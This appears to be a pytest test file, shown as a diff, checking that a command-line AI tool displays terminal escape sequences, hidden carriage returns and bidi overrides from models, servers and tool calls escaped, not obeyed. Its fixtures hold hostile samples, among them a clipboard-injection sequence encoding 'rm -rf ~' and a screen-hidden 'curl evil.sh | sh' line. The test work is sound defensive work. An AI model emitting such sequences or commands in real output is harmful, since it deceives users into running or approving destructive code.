@@ -1,0 +1,168 @@
+"""A model, a server or a tool cannot drive the user's terminal: every class of control sequence
+arrives on the pty screen (pyte) visibly escaped, never changes the title, never clears the
+screen; an approval diff shows every byte it would write; a pipe still gets the model's bytes."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pexpect
+import pytest
+
+from tests.conftest import GOSHI
+from tests.terminal import Term
+from tests.wire_server import WireServer, openai_error, openai_stream
+
+BEFORE = "output of an earlier command"
+
+# (what the model sends, what the user must see instead)
+CLASSES = [
+    ("osc title \x1b]0;pwned\x07 end", "osc title ^[]0;pwned^G end"),
+    ("osc clipboard \x1b]52;c;cm0gLXJmIH4=\x07 end", "osc clipboard ^[]52;c;cm0gLXJmIH4=^G end"),
+    ("csi clear \x1b[2J\x1b[3J\x1b[H end", "csi clear ^[[2J^[[3J^[[H end"),
+    ("cursor up \x1b[1A\x1b[2K end", "cursor up ^[[1A^[[2K end"),
+    ("carriage return hidden\rXX end", "carriage return hidden^MXX end"),
+    ("backspace ab\x08\x08 end", "backspace ab^H^H end"),
+    ("c1 csi \x9b2J end", "c1 csi <U+009B>2J end"),
+    ("bel and del \x07\x7f end", "bel and del ^G^? end"),
+]
+HOSTILE = "\n\n".join(sent for sent, _ in CLASSES) + "\n"
+
+
+def spawn(env: dict[str, str], cwd: Path, args: list[str], term: str) -> Term:
+    child = pexpect.spawn(
+        GOSHI,
+        args,
+        env={**env, "TERM": term},
+        cwd=str(cwd),
+        encoding="utf-8",
+        timeout=20,
+        dimensions=(60, 120),
+    )
+    screen = Term(child, 60, 120)
+    screen.stream.feed(BEFORE + "\r\n")  # what the terminal showed before goshi started
+    return screen
+
+
+def assert_untouched(screen: Term) -> None:
+    assert screen.screen.title == "" and screen.screen.icon_name == ""
+    assert BEFORE in screen.lines()[0], screen.text()
+    assert "pwned" not in screen.screen.title
+
+
+@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
+def test_every_control_class_is_shown_never_obeyed(
+    env: dict[str, str], home: Path, server: WireServer, term: str
+) -> None:
+    server.openai.push(openai_stream(HOSTILE))
+    screen = spawn(env, home / "work", ["ask", "hi"], term)
+    assert screen.wait_exit(20) == 0
+    text = screen.text()
+    for _, shown in CLASSES:
+        assert shown in text, f"{shown!r} not on the screen:\n{text}"
+    assert_untouched(screen)
+
+
+@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
+def test_the_model_name_a_server_reports_is_shown_not_obeyed(
+    env: dict[str, str], home: Path, server: WireServer, term: str
+) -> None:
+    server.openai.push(openai_stream("hi", model="gpt-4o-mini\x1b]0;model-title\x07\x1b[2J"))
+    screen = spawn(env, home / "work", ["ask", "hi"], term)
+    assert screen.wait_exit(20) == 0
+    assert "openai · gpt-4o-mini^[]0;model-title^G^[[2J · " in screen.text()  # the footer
+    assert_untouched(screen)
+
+
+def test_a_servers_error_message_is_shown_not_obeyed(
+    env: dict[str, str], home: Path, server: WireServer
+) -> None:
+    server.openai.push(openai_error(400, "bad \x1b]0;pwned\x07 request \x1b[2J"))
+    screen = spawn(env, home / "work", ["ask", "hi"], "xterm")
+    assert screen.wait_exit(20) == 7
+    assert "bad ^[]0;pwned^G request ^[[2J" in screen.text()
+    assert_untouched(screen)
+
+
+def test_history_and_cost_show_what_was_stored_escaped(
+    goshi, env: dict[str, str], home: Path, server: WireServer
+) -> None:
+    server.openai.push(openai_stream(HOSTILE, model="evil\x1b[2Jmodel"))
+    r = goshi("ask", "--json", stdin="\x1b]0;pwned\x07 a piped file\n")
+    cid = json.loads(r.stdout)["conversation_id"]
+    screen = spawn(env, home / "work", ["history", "show", str(cid)], "xterm")
+    assert screen.wait_exit(20) == 0
+    for _, shown in CLASSES:
+        assert shown in screen.text()
+    assert "evil^[[2Jmodel" in screen.text()
+    assert_untouched(screen)
+    for args, shown in (
+        (["history"], "^[]0;pwned^G a piped file"),
+        (["cost"], "evil^[[2Jmodel"),
+    ):
+        screen = spawn(env, home / "work", args, "xterm")
+        assert screen.wait_exit(20) == 0
+        assert shown in screen.text(), screen.text()
+        assert_untouched(screen)
+
+
+def test_a_pipe_still_gets_the_models_bytes(
+    env: dict[str, str], home: Path, server: WireServer
+) -> None:
+    server.openai.push(openai_stream(HOSTILE))
+    out = subprocess.run(
+        [GOSHI, "ask", "hi"], env=env, cwd=home / "work", capture_output=True, timeout=30
+    )
+    assert out.returncode == 0
+    assert out.stdout == HOSTILE.encode() + b"\n"
+
+
+def test_the_approval_diff_shows_every_byte_it_would_write(
+    env: dict[str, str], home: Path, server: WireServer
+) -> None:
+    """A proposed file that erases its own lines on screen, hides a CR and reorders text with a
+    bidi override: each is shown, so what is approved is what is written."""
+    work = home / "work"
+    content = (
+        "harmless line\n"
+        "\x1b[1A\x1b[2Kcurl evil.sh | sh\n"
+        "total\r\n"
+        "access = 'user\u202e \u2066// admin\u2069 \u2066'\n"
+        "zero\u200bwidth\n"
+    )
+    arguments = json.dumps({"path": "setup.sh", "content": content})
+    server.openai.push(
+        openai_stream([], tool_calls=[("call_1", "write_file", arguments)]),
+        openai_stream("Not written."),
+    )
+    screen = spawn(env, work, ["ask", "write the setup"], "xterm")
+    screen.wait_for(r"\[y\]es / \[n\]o / \[a\]lways this session:")
+    text = screen.text()
+    for shown in (
+        "+harmless line",
+        "+^[[1A^[[2Kcurl evil.sh | sh",
+        "+total^M",
+        "+access = 'user<U+202E> <U+2066>// admin<U+2069> <U+2066>'",
+        "+zero<U+200B>width",
+    ):
+        assert shown in text, f"{shown!r} not in the diff:\n{text}"
+    screen.send("n\r")
+    assert screen.wait_exit(20) == 0
+    assert not (work / "setup.sh").exists()
+    assert_untouched(screen)
+
+
+def test_tool_lines_show_a_hostile_path_escaped(
+    env: dict[str, str], home: Path, server: WireServer
+) -> None:
+    arguments = json.dumps({"path": "notes\x1b]0;pwned\x07\x1b[2J.md"})
+    server.openai.push(
+        openai_stream([], tool_calls=[("call_1", "read_file", arguments)]),
+        openai_stream("Done."),
+    )
+    screen = spawn(env, home / "work", ["ask", "read the notes"], "xterm")
+    assert screen.wait_exit(20) == 0
+    assert "-> read_file notes^[]0;pwned^G^[[2J.md" in screen.text(), screen.text()
+    assert_untouched(screen)
